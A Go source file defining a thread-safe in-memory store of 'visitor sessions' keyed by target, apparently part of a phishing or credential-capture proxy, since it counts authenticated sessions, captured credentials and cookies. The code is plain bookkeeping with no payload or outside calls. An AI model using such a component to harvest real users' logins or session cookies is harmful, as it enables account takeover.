package core

import (
	"errors"
	"fmt"
	"sort"
	"sync"
)

var ErrSessionNotFound = errors.New("session not found")

// SessionStore holds live visitor sessions in memory. Entries stay for the
// lifetime of the process; captured milestones are mirrored into database/
// for export and inspection.
type SessionStore struct {
	sessions map[string]*Session
	mtx      sync.RWMutex
}

func NewSessionStore() *SessionStore {
	return &SessionStore{
		sessions: make(map[string]*Session),
	}
}

func (ss *SessionStore) Create(target_id string) *Session {
	ss.mtx.Lock()
	defer ss.mtx.Unlock()
	s := NewSession(target_id)
	for {
		if _, ok := ss.sessions[s.Id]; !ok {
			break
		}
		s = NewSession(target_id)
	}
	ss.sessions[s.Id] = s
	return s
}

func (ss *SessionStore) Get(sid string) (*Session, error) {
	ss.mtx.RLock()
	defer ss.mtx.RUnlock()
	s, ok := ss.sessions[sid]
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrSessionNotFound, sid)
	}
	return s, nil
}

func (ss *SessionStore) Delete(sid string) error {
	ss.mtx.Lock()
	defer ss.mtx.Unlock()
	if _, ok := ss.sessions[sid]; !ok {
		return fmt.Errorf("%w: %s", ErrSessionNotFound, sid)
	}
	delete(ss.sessions, sid)
	return nil
}

// List returns sessions sorted oldest first, optionally filtered by target.
func (ss *SessionStore) List(target_id string) []*Session {
	ss.mtx.RLock()
	defer ss.mtx.RUnlock()
	var ret []*Session
	for _, s := range ss.sessions {
		if target_id == "" || s.TargetId == target_id {
			ret = append(ret, s)
		}
	}
	sort.Slice(ret, func(i, j int) bool { return ret[i].CreateTime.Before(ret[j].CreateTime) })
	return ret
}

func (ss *SessionStore) Count() int {
	ss.mtx.RLock()
	defer ss.mtx.RUnlock()
	return len(ss.sessions)
}

func (ss *SessionStore) CountAuthenticated() int {
	ss.mtx.RLock()
	defer ss.mtx.RUnlock()
	n := 0
	for _, s := range ss.sessions {
		if s.IsAuthenticated() {
			n++
		}
	}
	return n
}

func (ss *SessionStore) TotalCredentials() int {
	ss.mtx.RLock()
	defer ss.mtx.RUnlock()
	n := 0
	for _, s := range ss.sessions {
		n += s.CredentialCount()
	}
	return n
}

func (ss *SessionStore) TotalCookies() int {
	ss.mtx.RLock()
	defer ss.mtx.RUnlock()
	n := 0
	for _, s := range ss.sessions {
		n += s.CookieCount()
	}
	return n
}
